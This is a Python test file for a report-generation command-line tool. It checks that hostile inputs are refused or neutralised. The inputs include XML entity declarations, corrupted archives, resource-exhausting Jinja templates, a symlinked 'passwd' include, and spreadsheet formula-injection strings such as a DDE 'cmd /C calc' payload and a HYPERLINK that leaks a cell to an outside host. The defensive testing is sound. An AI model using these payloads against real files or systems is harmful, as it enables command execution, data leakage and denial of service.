"""Issue #14, reliability round two: hostile files, hangs, tracebacks. One clear error each, history untouched."""

from __future__ import annotations

import io
import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from reportgen.cli.app import app
from typer.testing import CliRunner

from .conftest import REFERENCE_2023, ROOT
from .test_bad_inputs import _check, _digest, _zip

runner = CliRunner()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    b'Target="word/document.xml"/></Relationships>'
)


def _docx(body: str, extra: dict[str, bytes] | None = None) -> bytes:
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {W}><w:body>{body}</w:body></w:document>'
    return _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": RELS,
            "word/document.xml": document.encode(),
            **(extra or {}),
        }
    )


def _paragraphs(text: str) -> str:
    return "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.splitlines() if line)


REPORT_TEXT = REFERENCE_2023.read_text(encoding="utf-8")
LATE_DTD = (
    '<?xml version="1.0"?><!--' + "x" * 5000 + '--><!DOCTYPE d [<!ENTITY a "aaaa">]>'
    f"<w:document {W}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>"
)
UTF16_DTD = LATE_DTD.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")


def _corrupt(data: bytes, member: str) -> bytes:
    """``data`` (a zip) with the first byte of ``member``'s compressed data flipped: a bad CRC or deflate stream."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    offset = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    spoiled = bytearray(data)
    spoiled[offset + 5] ^= 0xFF
    return bytes(spoiled)


def _stored(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bad_crc_docx() -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS}
    members["word/document.xml"] = (
        f"<w:document {W}><w:body>{_paragraphs(REPORT_TEXT[:2000])}</w:body></w:document>".encode()
    )
    return _corrupt(_stored(members), "word/document.xml")


def _merged_table(rows: int, columns: int) -> str:
    first = '<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>合并</w:t></w:r></w:p></w:tc>'
    rest = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>"
    cells = "".join(f"<w:tc><w:p><w:r><w:t>格{c}</w:t></w:r></w:p></w:tc>" for c in range(columns - 1))
    table_rows = [f"<w:tr>{first if r == 0 else rest}{cells}</w:tr>" for r in range(rows)]
    grid = "<w:tblGrid>" + "<w:gridCol/>" * columns + "</w:tblGrid>"
    return f"<w:tbl>{grid}{''.join(table_rows)}</w:tbl>"


def _xlsx_with_cell(history: Path, tmp: Path, ref: str) -> bytes:
    sheet = tmp / "sheet.xlsx"
    assert runner.invoke(app, ["metrics", "2024", "--out", str(sheet), "--history", str(history)]).exit_code == 0
    with zipfile.ZipFile(sheet) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    xml = members["xl/worksheets/sheet1.xml"].decode()
    row = re.sub(r"\D", "", ref)
    xml = xml.replace(
        "</sheetData>", f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    members["xl/worksheets/sheet1.xml"] = xml.encode()
    return _zip(members)


def _xlsx_member(history: Path, tmp: Path, name: str, data: bytes) -> bytes:
    sheet = tmp / "sheet.xlsx"
    assert runner.invoke(app, ["metrics", "2024", "--out", str(sheet), "--history", str(history)]).exit_code == 0
    with zipfile.ZipFile(sheet) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    members[name] = data
    return _zip(members)


DRAFT = ["draft", "2024", "--history", "{history}", "--out", "{tmp}/o/2024.docx"]

# (case id, files to create, argv, exit code, text the message must hold)
FILE_CASES: list[tuple[str, dict[str, bytes], list[str], int, str]] = [
    ("DTD after a 5 KB comment", {"late.docx": _docx("", {"word/document.xml": LATE_DTD.encode()})}, ["show", "{tmp}/late.docx"], 1, "declares XML entities in word/document.xml"),
    ("DTD in a UTF-16 part", {"u16.docx": _docx("", {"word/document.xml": UTF16_DTD})}, ["show", "{tmp}/u16.docx"], 1, "declares XML entities"),
    ("DTD in a renamed part", {"ren.docx": _docx(_paragraphs(REPORT_TEXT), {"word/main2.xml.bin": LATE_DTD.encode()})}, ["ingest", "{tmp}/ren.docx", "--history", "{history}"], 1, "declares XML entities in word/main2.xml.bin"),
    ("docx with a bad CRC", {"crc.docx": _bad_crc_docx()}, ["show", "{tmp}/crc.docx"], 1, "is damaged: word/document.xml cannot be read (bad CRC)"),
    ("docx with a broken deflate stream", {"defl.docx": _corrupt(_docx(_paragraphs(REPORT_TEXT)), "word/document.xml")}, ["show", "{tmp}/defl.docx"], 1, "is damaged: word/document.xml cannot be read"),
    ("meta charset undefined", {"u.html": ('<meta charset="undefined"><p>' + REPORT_TEXT.replace("\n", "</p><p>") + "</p>").encode()}, ["show", "{tmp}/u.html"], 0, ""),
    ("UTF-16 with a lone surrogate", {"s.txt": "\ufeff".encode("utf-16-le") + REPORT_TEXT.encode("utf-16-le") + b"\x00\xd8"}, ["show", "{tmp}/s.txt"], 0, ""),
    ("show a folder", {"dir/x": b"x"}, ["show", "{tmp}/dir"], 1, "is a folder, not a file"),
    ("CSV with 100,000 header columns", {"wide.csv": ("id,value," + ",".join(["x"] * 100_000) + "\n").encode()}, [*DRAFT, "--metrics", "{tmp}/wide.csv"], 1, "more than a metrics sheet can have"),
    ("1066年 in the text", {"old.txt": REPORT_TEXT.replace("2023", "1066").replace("2024", "1067").encode()}, ["ingest", "{tmp}/old.txt", "--history", "{history}"], 1, "1066 is not a plausible report year"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "files", "argv", "code", "message"), FILE_CASES, ids=[c[0] for c in FILE_CASES])
def test_hostile_file(
    tmp_path: Path, history: Path, name: str, files: dict[str, bytes], argv: list[str], code: int, message: str
) -> None:
    for file_name, data in files.items():
        (tmp_path / file_name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / file_name).write_bytes(data)
    argv = [a.format(tmp=tmp_path, history=history) for a in argv]
    if code == 0:
        before = _digest(history)
        result = runner.invoke(app, argv)
        assert result.exit_code == 0, result.output
        assert "Traceback" not in result.output
        assert _digest(history) == before
    else:
        _check(argv, code, message, history)


def test_merged_500_row_table_reads(tmp_path: Path) -> None:
    path = tmp_path / "t.docx"
    path.write_bytes(_docx(_paragraphs(REPORT_TEXT) + _merged_table(500, 10)))
    result = runner.invoke(app, ["show", str(path)])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("ref", ["AZ200000", "XFD1048576"])
def test_xlsx_stray_cell_is_refused(tmp_path: Path, history: Path, ref: str) -> None:
    sheet = tmp_path / "stray.xlsx"
    sheet.write_bytes(_xlsx_with_cell(history, tmp_path, ref))
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--metrics", str(sheet)]
    _check(argv, 1, "more than a metrics sheet can have", history)


@pytest.mark.parametrize(
    ("name", "member", "data", "message"),
    [
        ("DTD after a comment", "xl/worksheets/sheet1.xml", LATE_DTD.encode(), "declares XML entities in xl/worksheets/sheet1.xml"),
        ("DTD in a UTF-16 part", "xl/sharedStrings.xml", UTF16_DTD, "declares XML entities in xl/sharedStrings.xml"),
    ],
)  # fmt: skip
def test_xlsx_dtd_is_refused(tmp_path: Path, history: Path, name: str, member: str, data: bytes, message: str) -> None:
    sheet = tmp_path / "dtd.xlsx"
    sheet.write_bytes(_xlsx_member(history, tmp_path, member, data))
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--metrics", str(sheet)]
    _check(argv, 1, message, history)
    assert "aaaa" not in runner.invoke(app, argv).stderr


def test_xlsx_with_a_bad_crc(tmp_path: Path, history: Path) -> None:
    sheet = tmp_path / "s.xlsx"
    assert runner.invoke(app, ["metrics", "2024", "--out", str(sheet), "--history", str(history)]).exit_code == 0
    with zipfile.ZipFile(sheet) as archive:
        members = {n: archive.read(n) for n in archive.namelist()}
    sheet.write_bytes(_corrupt(_stored(members), "xl/worksheets/sheet1.xml"))
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--metrics", str(sheet)]
    _check(argv, 1, "is damaged: xl/worksheets/sheet1.xml cannot be read (bad CRC)", history)


@pytest.mark.parametrize("value", ["1e30", "1E+1000000", "12345678901234567890123456789"])
def test_huge_sheet_numbers(tmp_path: Path, history: Path, value: str) -> None:
    sheet = tmp_path / "s.csv"
    assert runner.invoke(app, ["metrics", "2024", "--out", str(sheet), "--history", str(history)]).exit_code == 0
    text = sheet.read_text(encoding="utf-8-sig").splitlines()
    fields = text[1].split(",")
    fields[6] = value
    text[1] = ",".join(fields)
    sheet.write_text("\n".join(text) + "\n", encoding="utf-8")
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--metrics", str(sheet)]
    _check(argv, 1, "is too large for a figure", history)


def test_huge_xlsx_number(tmp_path: Path, history: Path) -> None:
    import openpyxl

    sheet = tmp_path / "s.xlsx"
    assert runner.invoke(app, ["metrics", "2024", "--out", str(sheet), "--history", str(history)]).exit_code == 0
    book = openpyxl.load_workbook(sheet)
    book.worksheets[0].cell(row=2, column=7).value = 1e30
    book.save(sheet)
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--metrics", str(sheet)]
    _check(argv, 1, "is too large for a figure", history)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_show_a_fifo_does_not_wait(tmp_path: Path, history: Path) -> None:
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    _check(["show", str(fifo)], 1, "is not a regular file", history)


# --- limits from the environment --------------------------------------------------------------------------------

ENV_CASES = [
    ("REPORTGEN_MAX_INPUT_MB", "inf", ["show", str(REFERENCE_2023)], "REPORTGEN_MAX_INPUT_MB must be a number"),
    ("REPORTGEN_MAX_INPUT_MB", "0", ["show", str(REFERENCE_2023)], "REPORTGEN_MAX_INPUT_MB must be a number"),
    ("REPORTGEN_MAX_INPUT_MB", "-1", ["show", str(REFERENCE_2023)], "REPORTGEN_MAX_INPUT_MB must be a number"),
    ("REPORTGEN_MAX_INPUT_MB", "nan", ["show", str(REFERENCE_2023)], "REPORTGEN_MAX_INPUT_MB must be a number"),
    ("REPORTGEN_TEMPLATE_TIMEOUT", "nan", [*DRAFT, "--templates", "{tmp}/t"], "REPORTGEN_TEMPLATE_TIMEOUT must be a number"),
    ("REPORTGEN_TEMPLATE_TIMEOUT", "0", [*DRAFT, "--templates", "{tmp}/t"], "REPORTGEN_TEMPLATE_TIMEOUT must be a number"),
    ("REPORTGEN_TEMPLATE_TIMEOUT", "-5", [*DRAFT, "--templates", "{tmp}/t"], "REPORTGEN_TEMPLATE_TIMEOUT must be a number"),
    ("REPORTGEN_TEMPLATE_TIMEOUT", "inf", [*DRAFT, "--templates", "{tmp}/t"], "REPORTGEN_TEMPLATE_TIMEOUT must be a number"),
    ("REPORTGEN_TEMPLATE_MEMORY_MB", "0", [*DRAFT, "--templates", "{tmp}/t"], "REPORTGEN_TEMPLATE_MEMORY_MB must be a number"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value", "argv", "message"), ENV_CASES, ids=[f"{c[0]}={c[1]}" for c in ENV_CASES])
def test_limits_cannot_be_switched_off(
    tmp_path: Path, history: Path, monkeypatch: pytest.MonkeyPatch, name: str, value: str, argv: list[str], message: str
) -> None:
    (tmp_path / "t").mkdir()
    monkeypatch.setenv(name, value)
    _check([a.format(tmp=tmp_path, history=history) for a in argv], 2, message, history)
    assert not (tmp_path / "o").exists()


def test_history_file_over_the_size_limit(tmp_path: Path, history: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("REPORTGEN_MAX_INPUT_MB", "1")
    big = history / "2023.yaml"
    big.write_bytes(big.read_bytes() + b"# " + b"x" * (2 * 1024 * 1024) + b"\n")
    _check(["diff", "2023", "2023", "--history", str(history)], 1, "over the 1.0 MB limit", history)


# --- templates ---------------------------------------------------------------------------------------------------

TEMPLATE_CASES = [
    ("huge power", "{{ (9**(9**9)) % 10 }}\n", "template security error"),
    ("huge format width", "{{ '%2000000000d' % 1 }}\n", "template security error"),
    ("huge format filter", "{{ '%2000000000d' | format(1) }}\n", "template security error"),
    ("huge repetition", "{{ 'x' * 2000000000 }}\n", "template security error"),
    ("two million lines", "{% for i in range(100000) %}{% for j in range(20) %}line\n{% endfor %}{% endfor %}", "more than 20,000 lines"),
    ("huge str.format", "{{ '{:>2000000000}'.format(1) }}\n", "memory"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "body", "message"), TEMPLATE_CASES, ids=[c[0] for c in TEMPLATE_CASES])
def test_template_limits(tmp_path: Path, history: Path, name: str, body: str, message: str) -> None:
    if message == "memory" and os.name != "posix":
        pytest.skip("the memory limit needs POSIX resource limits")
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "report.txt.j2").write_text(body, encoding="utf-8")
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--templates", str(folder)]
    _check(argv, 1, message, history)
    assert not (tmp_path / "o").exists()


def test_template_symlink_out_of_the_folder_is_refused(tmp_path: Path, history: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "passwd").write_text("root:x:0:0\n", encoding="utf-8")
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "etc").symlink_to(secret, target_is_directory=True)
    (folder / "report.txt.j2").write_text("{% include 'etc/passwd' %}\n", encoding="utf-8")
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--templates", str(folder)]
    _check(argv, 1, "leading out of the templates folder", history)
    assert not (tmp_path / "o").exists()


def test_gbk_template_and_control_characters(tmp_path: Path, history: Path) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    frame = (ROOT / "templates" / "report.txt.j2").read_text(encoding="utf-8")
    (folder / "report.txt.j2").write_bytes(("{# 模板：国标 #}\x01\x1b[31m" + frame).encode("gbk"))
    out = tmp_path / "o" / "2024.docx"
    result = runner.invoke(
        app, ["draft", "2024", "--history", str(history), "--templates", str(folder), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.with_suffix(".txt").read_text(encoding="utf-8")
    assert "\x01" not in text and "\x1b" not in text


def test_control_characters_are_dropped_on_ingest(tmp_path: Path, history: Path) -> None:
    dirty = REPORT_TEXT.replace("2023", "2022").replace("钟楼区", "钟楼\x01区\x1b[2J\uffff", 3) + "\x00\n"
    source = tmp_path / "2022.txt"
    source.write_text(dirty, encoding="utf-8")
    # a late NUL: past the first 4 KB that the binary check reads
    assert runner.invoke(app, ["ingest", str(source), "--history", str(history)]).exit_code == 0
    stored = (history / "2022.yaml").read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\uffff]", stored)
    result = runner.invoke(app, ["redline", "2022", "2023", "--history", str(history), "-o", str(tmp_path / "r.docx")])
    assert result.exit_code == 0, result.output


def test_hand_edited_control_characters_never_reach_the_terminal(tmp_path: Path, history: Path) -> None:
    path = history / "2023.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace(
            "org: 常州市钟楼区人民政府\n", 'org: "\\e[31m常州市钟楼区人民政府\\x07"\n'
        ),
        encoding="utf-8",
    )
    result = runner.invoke(app, ["show", "2023", "--history", str(history)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "常州市钟楼区" in result.stdout


# --- hand-edited history -------------------------------------------------------------------------------------

HISTORY_EDITS = [
    ("year as text", r"^year: 2023$", 'year: "2023"', "year must be a whole number, not '2023'"),
    ("value .nan", r"^  value: 4$", "  value: .nan", "figures[0].value must be a number, not .nan"),
    ("label a number", r"^  label: 区政府常务会议学法$", "  label: 5", "figures[0].label must be text, not 5 (int)"),
    ("unit null", r"^(  unit: .*)$", "  unit: null", "figures[0].unit must be text, not null"),
    ("unknown outline", r"^outline: thematic$", "outline: free-form", "outline must be one of thematic, statutory"),
    ("org a list", r"^org: .*$", "org: [a, b]", "org must be text or empty, not a list"),
    ("date a number", r"^date: .*$", "date: 20240306", "date must be text or empty, not 20240306 (int)"),
    ("year 1066", r"^year: 2023$", "year: 1066", "year must be between 1990 and 2100, not 1066"),
]  # fmt: skip
HISTORY_COMMANDS = [
    ["show", "2023"],
    ["show", "2023", "--format", "json"],
    ["diff", "2023", "{history}/2023.yaml"],
    ["draft", "2024", "--out", "{tmp}/o/2024.docx"],
    ["metrics", "2024", "--out", "{tmp}/o/m.xlsx"],
    ["trend", "--no-charts"],
    ["redline", "2023", "{history}/2023.yaml", "-o", "{tmp}/o/r.docx"],
]


@pytest.mark.parametrize(
    ("name", "pattern", "replacement", "message"), HISTORY_EDITS, ids=[e[0] for e in HISTORY_EDITS]
)
def test_hand_edited_history_is_named(
    tmp_path: Path, history: Path, name: str, pattern: str, replacement: str, message: str
) -> None:
    path = history / "2023.yaml"
    text, count = re.subn(pattern, replacement, path.read_text(encoding="utf-8"), count=1, flags=re.MULTILINE)
    assert count == 1
    path.write_text(text, encoding="utf-8")
    for argv in HISTORY_COMMANDS:
        full = [a.format(tmp=tmp_path, history=history) for a in argv] + ["--history", str(history)]
        _check(full, 1, f"2023.yaml: malformed history file: {message}", history)


def test_backup_is_whole_or_absent(tmp_path: Path, history: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from reportgen import fsutil, store
    from reportgen.errors import OutputError
    from reportgen.parse import parse_file

    report = parse_file(REFERENCE_2023)
    before = _digest(history)
    calls = {"n": 0}
    real = fsutil._temp_beside

    def failing(path: Path):  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if path.parent.name == ".backup" and calls["n"] == 2:
            raise OutputError("disk full", path=path)
        return real(path)

    monkeypatch.setattr(fsutil, "_temp_beside", failing)
    with pytest.raises(OutputError):
        store.save_report(report, history, original_text=REPORT_TEXT, force=True)
    backups = list((history / ".backup").iterdir())
    assert all(p.read_bytes() == (history / p.name.split("-")[0]).with_suffix(p.suffix).read_bytes() for p in backups)
    assert not [p for p in backups if p.name.endswith(".tmp")]
    shutil.rmtree(history / ".backup")
    assert _digest(history) == before


# --- formula injection -------------------------------------------------------------------------------------------

INJECTED = ['=HYPERLINK("http://example.invalid/?q="&A1,"详情")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def _injected_history(folder: Path) -> Path:
    import copy

    from reportgen.store import load_report, save_report

    base = load_report(ROOT / "history" / "2023.yaml")
    for year in (2022, 2023):
        report = copy.deepcopy(base)
        report.year = year
        report.shortcomings[0].text = INJECTED[0]
        for figure, label in zip(report.figures, INJECTED, strict=False):
            figure.label = label
        save_report(report, folder)
    return folder


def test_trend_and_metrics_keep_text_as_text(tmp_path: Path) -> None:
    import csv

    import openpyxl

    folder = _injected_history(tmp_path / "history")
    outputs = {
        "trend.csv": ["trend", "-f", "csv", "--no-charts"],
        "trend.xlsx": ["trend", "-f", "xlsx", "--no-charts"],
        "metrics.csv": ["metrics", "2024"],
        "metrics.xlsx": ["metrics", "2024"],
    }
    for name, argv in outputs.items():
        result = runner.invoke(app, [*argv, "--history", str(folder), "--out", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
    for name in ("trend.csv", "metrics.csv"):
        cells = [c for row in csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8-sig"))) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or re.match(r"-\D", c)], name
        for text in INJECTED[1:]:
            assert "'" + text in cells, (name, text)
    for name in ("trend.xlsx", "metrics.xlsx"):
        book = openpyxl.load_workbook(tmp_path / name)
        formulas = [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], name
        texts = {c.value for s in book.worksheets for row in s.iter_rows() for c in row}
        assert INJECTED[0] in texts or name == "metrics.xlsx"
        assert INJECTED[1] in texts


def test_metrics_csv_note_round_trips(tmp_path: Path, history: Path) -> None:
    from reportgen.draft.metrics import read_metrics
    from reportgen.store import load_report

    sheet = tmp_path / "m.csv"
    sheet.write_text("id,value,note\nleadership.study_sessions,5,'=2+3 cases\n", encoding="utf-8")
    inputs = read_metrics(sheet, load_report(history / "2023.yaml"), 2024)
    assert inputs.notes["leadership.study_sessions"] == "=2+3 cases"


# --- Windows -------------------------------------------------------------------------------------------------------

WINDOWS_PRELUDE = """
import os, signal, sys
sys.modules["fcntl"] = None  # import fcntl raises ImportError, as on Windows
for name in ("SIGALRM", "setitimer", "ITIMER_REAL"):
    if hasattr(signal, name):
        delattr(signal, name)
for name in ("fchmod",):
    if hasattr(os, name):
        delattr(os, name)
import multiprocessing
multiprocessing.get_all_start_methods = lambda: ["spawn"]  # Windows has no fork: the child is a fresh interpreter
from reportgen.cli.app import main
sys.argv = ["reportgen", *sys.argv[1:]]
main()
"""


def test_main_commands_run_without_posix_only_calls(tmp_path: Path) -> None:
    import subprocess
    import sys

    folder = tmp_path / "history"
    templates = tmp_path / "templates"
    templates.mkdir()
    shutil.copy(ROOT / "templates" / "report.txt.j2", templates / "report.txt.j2")
    commands = [
        ["ingest", str(REFERENCE_2023), "--history", str(folder)],
        ["ingest", str(REFERENCE_2023), "--history", str(folder), "--force"],
        ["show", "2023", "--history", str(folder)],
        ["metrics", "2024", "--history", str(folder), "--out", str(tmp_path / "m.csv")],
        ["draft", "2024", "--history", str(folder), "--out", str(tmp_path / "o" / "2024.docx")],
        ["draft", "2024", "--history", str(folder), "--templates", str(templates), "--out", str(tmp_path / "t" / "2024.docx")],
        ["diff", "2023", "2023", "--history", str(folder), "-o", str(tmp_path / "d.md"), "-f", "markdown"],
        ["trend", "--history", str(folder), "--no-charts", "-f", "csv", "-o", str(tmp_path / "trend.csv")],
        ["redline", "2023", "2023", "--history", str(folder), "-o", str(tmp_path / "r.docx")],
    ]  # fmt: skip
    for argv in commands:
        done = subprocess.run(
            [sys.executable, "-c", WINDOWS_PRELUDE, *argv], capture_output=True, text=True, timeout=120, cwd=tmp_path
        )
        assert done.returncode == 0, (argv, done.stderr)
        assert "Traceback" not in done.stderr
    assert (tmp_path / "t" / "2024.docx").exists() and (folder / "2023.yaml").exists()
    assert list((folder / ".backup").iterdir())


def test_template_time_limit_without_signals_or_fork(tmp_path: Path, history: Path) -> None:
    import subprocess
    import sys

    folder = history
    looping = tmp_path / "looping"
    looping.mkdir()
    (looping / "report.txt.j2").write_text(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n", encoding="utf-8"
    )
    argv = [
        "draft",
        "2024",
        "--history",
        str(folder),
        "--templates",
        str(looping),
        "-o",
        str(tmp_path / "l" / "x.docx"),
    ]
    done = subprocess.run(
        [sys.executable, "-c", WINDOWS_PRELUDE, *argv],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
        env={**os.environ, "REPORTGEN_TEMPLATE_TIMEOUT": "2"},
    )
    assert done.returncode == 1 and "took longer than 2 s" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr and not (tmp_path / "l").exists()


def test_chart_labels_are_not_mathtext(tmp_path: Path) -> None:
    import copy

    from reportgen.compare.trend.charts import find_cjk_font

    from reportgen.store import load_report, save_report

    # scripts/install-system-deps.sh installs fonts-noto-cjk: without one this check would test nothing
    assert find_cjk_font() is not None, "no CJK font found: run scripts/install-system-deps.sh"
    folder = tmp_path / "history"
    base = load_report(ROOT / "history" / "2023.yaml")
    for year in (2022, 2023):
        report = copy.deepcopy(base)
        report.year = year
        report.figures[0].label = "$\\foo{x}$ 学法"
        save_report(report, folder)
    charts = tmp_path / "charts"
    result = runner.invoke(
        app, ["trend", "--history", str(folder), "--charts", str(charts), "--figures", base.figures[0].id]
    )
    assert result.exit_code == 0, result.output
    assert (charts / f"{base.figures[0].id}.png").exists()


def test_narrative_with_control_characters_in_gbk(tmp_path: Path, history: Path) -> None:
    narrative = tmp_path / "n.yaml"
    narrative.write_bytes("plans:\n  - 强化统筹\x01推进\x1b[31m法治\uffff建设\n".encode("gb18030"))
    out = tmp_path / "o" / "2024.docx"
    result = runner.invoke(
        app, ["draft", "2024", "--history", str(history), "--narrative", str(narrative), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    text = out.with_suffix(".txt").read_text(encoding="utf-8")
    assert "强化统筹推进法治建设" in text


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_narrative_fifo_does_not_wait(tmp_path: Path, history: Path) -> None:
    fifo = tmp_path / "n.yaml"
    os.mkfifo(fifo)
    argv = [a.format(tmp=tmp_path, history=history) for a in DRAFT] + ["--narrative", str(fifo)]
    _check(argv, 1, "is not a regular file", history)
